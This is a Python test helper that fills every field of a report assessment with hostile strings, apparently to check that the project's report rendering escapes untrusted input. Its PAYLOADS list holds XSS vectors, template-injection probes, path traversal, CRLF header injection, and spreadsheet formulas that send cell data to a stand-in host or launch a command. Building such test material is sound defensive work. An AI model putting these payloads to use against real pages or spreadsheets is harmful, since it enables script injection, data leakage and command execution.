"""What do hostile peers, banners and certificates write?"""

from dataclasses import replace

from rehearsal.model import (
    Assessment,
    Attempt,
    Finding,
    Measurement,
    Standing,
    Step,
    Target,
    Text,
    Unit,
    Verdict,
)
from tests.rehearsal.report.morning import failed

CALL = "window.__executed=1"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</pre></code></details><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"javascript:{CALL}",
    f"JaVaScRiPt&colon;{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f'" onmouseover="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f'"><script>{CALL}</script>',
    f"--><script>{CALL}</script>",
    f"<!--<script>{CALL}//-->",
    "<meta http-equiv=refresh content='0;url=http://outside.invalid/'>",
    "<link rel=stylesheet href=http://outside.invalid/x.css>",
    "<base href=http://outside.invalid/>",
    "<img src=http://outside.invalid/p.png>",
    "<form action=http://outside.invalid/><button>x</button></form>",
    "<object data=http://outside.invalid/x></object>",
    "<style>@import url(http://outside.invalid/x.css)</style>",
    "<math><mtext><img src=x onerror=window.__executed=1>",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# a comment #}${7*7}#{7*7}",
    "%s%n %(x)s {0} {x!r}",
    "[/][bold]rich[/bold]",
    '=HYPERLINK("http://outside.invalid/?"&A1,"a")',
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "http://outside.invalid/link",
    "\u202egnp.exe\u202c after",
    "\u2066isolated\u2069 \u200bzero\ufeffwidth",
    "\x1b[31mred\x1b]0;title\x07",
    "nul\x00 back\x08space\x0bvt\x7f",
    "lone \ud800 surrogate \udfff",
    "\ufffe\uffff noncharacters",
    "a" * 400,
    "Z\u0335\u0321\u0327\u0322" * 40,
    "]]><![CDATA[<x>",
    "&lt;script&gt; &amp; &#0; &bogus;",
    "../../etc/passwd\\..\\x",
    "_x0041_ _x000D_",
    "\r\nSet-Cookie: a=b\n\tnext",
)


def hostile(assessment: Assessment, payloads: tuple[str, ...] = PAYLOADS) -> Assessment:
    """Plant one payload in every text of a unit, another in the next unit."""
    planted = [
        _unit(standing, payloads[rank % len(payloads)])
        for rank, standing in enumerate(assessment.units)
    ]
    causes = tuple(
        replace(
            cause,
            says=Text(payload, payload),
            do=Text(payload, payload),
            kind=payload,
            scope={payload: payload},
            evidence=(Text(payload, payload),),
            against=(Text(payload, payload),),
        )
        for cause, payload in zip(assessment.causes, payloads, strict=False)
    )
    stages = tuple(
        replace(stage, problem=payload, stage=payload)
        for stage, payload in zip(assessment.stages, payloads, strict=False)
    )
    return replace(
        assessment,
        units=tuple(planted),
        causes=causes,
        stages=stages,
        run=replace(assessment.run, id=payloads[0], reports_to=payloads[5]),
        city=replace(assessment.city, name=payloads[20]),
    )


def _unit(standing: Standing, payload: str) -> Standing:
    owner = standing.owner
    assert isinstance(owner, Unit)
    targets = tuple(_target(target, payload) for target in owner.targets)
    named = replace(
        owner,
        name=payload,
        kind=payload,
        former_province=payload,
        code=payload,
        targets=targets,
    )
    return replace(
        standing, owner=named, verdicts=tuple(_verdict(v, payload) for v in standing.verdicts)
    )


def _target(target: Target, payload: str) -> Target:
    return replace(target, name=payload, url=payload, protocol=payload, bloc=payload)


def _verdict(verdict: Verdict, payload: str) -> Verdict:
    target = _target(verdict.target, payload)
    if verdict.measurement is None or verdict.measurement.failure is None:
        return replace(verdict, target=target, measurement=_seen(verdict.measurement, payload))
    step = verdict.measurement.failure.step
    noted = {payload: payload, "subject": payload, "names": (payload,)} if _climbs(step) else {}
    again = failed(verdict.check_id, verdict.target, step, payload, payload * 3, **noted)
    values = {payload: payload, "list": [payload]}
    return replace(
        again,
        target=target,
        findings=tuple(Finding(payload, f.outcome, values) for f in verdict.findings),
    )


def _climbs(step: Step) -> bool:
    return step is not Step.OBSERVE


def _seen(measurement: Measurement[object] | None, payload: str) -> Measurement[object] | None:
    if measurement is None:
        return None
    attempts = tuple(_attempt(attempt, payload) for attempt in measurement.attempts)
    return replace(measurement, evidence={payload: payload}, vantage=payload, attempts=attempts)


def _attempt(attempt: Attempt, payload: str) -> Attempt:
    rungs = tuple(replace(rung, facts={payload: payload}) for rung in attempt.rungs)
    return replace(attempt, rungs=rungs)
